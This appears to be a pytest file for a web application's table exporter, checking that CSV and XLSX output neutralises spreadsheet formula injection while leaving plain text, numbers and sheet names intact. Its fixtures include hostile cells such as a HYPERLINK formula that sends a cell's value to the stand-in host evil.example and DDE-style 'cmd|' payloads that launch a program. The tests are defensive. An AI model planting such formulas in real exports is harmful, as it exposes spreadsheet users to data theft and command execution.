"""Exported tables: no cell is a formula, and nothing else changes."""

import ast
import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from webapp.instance import BASE_DIR
from webapp.tabular.tables_out import Verbatim, as_csv, as_xlsx, defused, without_mark

FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    "=1+1",
    "+1+1",
    "+34 600 123 456",
    "-1+1",
    "-2+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
    "\u200b=1+1",
    "\uff1d1+1",
    "|cmd",
    "%cmd",
)
PLAIN = (
    "", "N00101", "Anna Berg-Lund", "don't", "a, b", "-5", "-5.25", "-1e-7", "-", "1=1", "S-12",
    "12:30", "a - b", "list\n- one\n- two", "you; me", "50 %", "anna@x.example", "Zoë 🙂",
)  # fmt: skip


def cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_marked_in_csv_and_can_be_read_back(text: str) -> None:
    ((heading,), (cell,)) = cells_of(as_csv([[text], [text]]))
    assert heading == cell
    assert cell.startswith("'")
    assert without_mark(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert defused(text) == text == without_mark(text)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('x;=HYPERLINK("http://evil.example")', 'x;\'=HYPERLINK("http://evil.example")'),
        ("x; -cmd|'/C calc'!A0", "x; '-cmd|'/C calc'!A0"),
        ("x\n=1+1", "x\n'=1+1"),
        ("x\t@SUM(A1)", "x\t'@SUM(A1)"),
        ("x; '=1+1", "x; ''=1+1"),
    ],
)
def test_a_cell_is_safe_where_a_semicolon_or_a_line_break_ends_it(text: str, safe: str) -> None:
    assert defused(text) == safe
    assert without_mark(safe) == text


def test_numbers_stay_numbers_and_control_characters_go() -> None:
    rows = [[-5, -0.5, None, True, "a\x00b\x0bc"]]
    assert cells_of(as_csv(rows)) == [["-5", "-0.5", "", "True", "abc"]]
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx({"T": rows}))).active
    assert [cell.value for cell in sheet[1]] == [-5, -0.5, None, True, "abc"]


@pytest.mark.parametrize("text", [*FORMULAS, "#N/A", "TRUE", "12"])
def test_text_stays_text_in_a_workbook(text: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx({"T": [[text], [text]]}))).active
    for (cell,) in sheet.iter_rows():
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n") or cell.value == text
        assert cell.quotePrefix == (text in FORMULAS), "text again after it was edited"


@pytest.mark.parametrize("title", ["Maple/Oak: [2027]?", "", "'", "x" * 80])
def test_any_name_is_the_name_of_a_sheet(title: str) -> None:
    (name,) = openpyxl.load_workbook(io.BytesIO(as_xlsx({title: [["a"]]}))).sheetnames
    assert 0 < len(name) <= 31


def test_only_what_an_export_names_leaves_verbatim() -> None:
    assert cells_of(as_csv([[Verbatim("-1.A"), "-1.A"]])) == [["-1.A", "'-1.A"]]


def test_tables_are_written_in_one_place() -> None:
    """An export that writes CSV or XLSX by itself would not be defused."""
    own = BASE_DIR / "webapp" / "tabular" / "tables_out.py"
    demonstration = BASE_DIR / "webapp" / "cohorts" / "demonstration.py"  # read by ourselves alone
    found = {
        path
        for folder in ("webapp", "tasks")
        for path in (BASE_DIR / folder).rglob("*.py")
        if _writes_tables(path)
    }
    assert found == {own, demonstration}


def _writes_tables(path: Path) -> bool:
    text = path.read_text(encoding="utf-8")
    if not re.search(r"csv|openpyxl|xlsx", text, re.IGNORECASE):
        return False
    names = {
        node.attr if isinstance(node, ast.Attribute) else node.id
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Attribute | ast.Name)
    }
    imported = re.search(r"^(?:from|import) (?:defusedcsv|xlsxwriter|pandas)", text, re.MULTILINE)
    return bool(names & {"writer", "DictWriter", "Workbook", "to_csv", "to_excel"} or imported)
